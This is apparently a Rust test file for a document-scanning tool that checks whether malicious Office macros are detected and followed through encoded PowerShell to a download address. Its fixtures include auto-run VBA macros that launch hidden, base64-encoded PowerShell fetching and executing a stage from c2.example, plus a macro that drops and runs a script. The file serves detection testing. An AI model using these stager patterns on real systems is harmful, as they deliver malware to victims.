//! A macro that starts a concealed command that fetches the next stage: one report holds the whole chain.

// The helpers of a test fail as the test does.
#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

mod campaign;
mod seed;

use campaign::docm;
use strongroom_model::{Limits, Report, Role, Verdict};

fn encoded(script: &str) -> String {
    use base64::Engine;
    let wide: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(wide)
}

fn examine(name: &str, bytes: &[u8]) -> Report {
    strongroom_files::examine(name, bytes, &Limits::default())
}

fn codes(report: &Report) -> Vec<&str> {
    report
        .findings
        .iter()
        .map(|finding| finding.code.as_ref())
        .collect()
}

#[test]
fn a_macro_is_followed_through_its_encoded_command_to_the_address() {
    let command = encoded("IEX (New-Object Net.WebClient).DownloadString('https://c2.example/stage')");
    let macros = format!(
        "Sub AutoOpen()\n  Dim c\n  c = \"power\" & \"shell -nop -w hidden -enc {command}\"\n  Shell c, 0\nEnd Sub\n"
    );
    let report = examine("offer.docm", &docm(&macros));
    assert_eq!(report.verdict(), Verdict::Malicious);
    let codes = codes(&report);
    for code in [
        "macro.auto-run",
        "macro.auto-run-start",
        "script.encoded-command",
        "script.concealed-download-run",
    ] {
        assert!(codes.contains(&code), "{code} in {codes:?}");
    }
    let languages: Vec<&str> = report
        .scripts
        .iter()
        .map(|script| script.language.as_ref())
        .collect();
    assert_eq!(languages, ["vba", "powershell"]);
    let from = report
        .observables
        .iter()
        .find(|seen| seen.observable.value() == "https://c2.example/stage")
        .unwrap();
    assert_eq!(from.role, Role::Download);
}

#[test]
fn a_script_that_a_macro_writes_and_starts_is_read() {
    let macros = "Sub Document_Open()\n  Dim f, p\n  p = Environ(\"TEMP\") & \"\\qwerty.ps1\"\n  f = FreeFile\n  \
         Open p For Output As #f\n  Print #f, \"Invoke-WebRequest -Uri https://c2.example/a -OutFile a.bin\"\n  Close #f\n  \
         Shell \"powershell -ep bypass -f \" & p, 0\nEnd Sub\n";
    let report = examine("offer.docm", &docm(macros));
    assert_eq!(report.verdict(), Verdict::Malicious);
    assert!(
        codes(&report).contains(&"macro.auto-run-drop"),
        "{:?}",
        codes(&report)
    );
    let written = report
        .scripts
        .iter()
        .find(|script| script.name.ends_with("qwerty.ps1"))
        .unwrap();
    assert!(written.layers[0].text.contains("Invoke-WebRequest"));
}

#[test]
fn a_plain_download_is_no_alarm() {
    let report = examine(
        "get.ps1",
        b"$u = 'https://files.example/tool.zip'\nInvoke-WebRequest -Uri $u -OutFile tool.zip\n",
    );
    assert_eq!(
        report.verdict(),
        Verdict::Clean,
        "{:?} {:?}",
        codes(&report),
        report.gaps
    );
    assert_eq!(codes(&report), ["script.download"]);
}
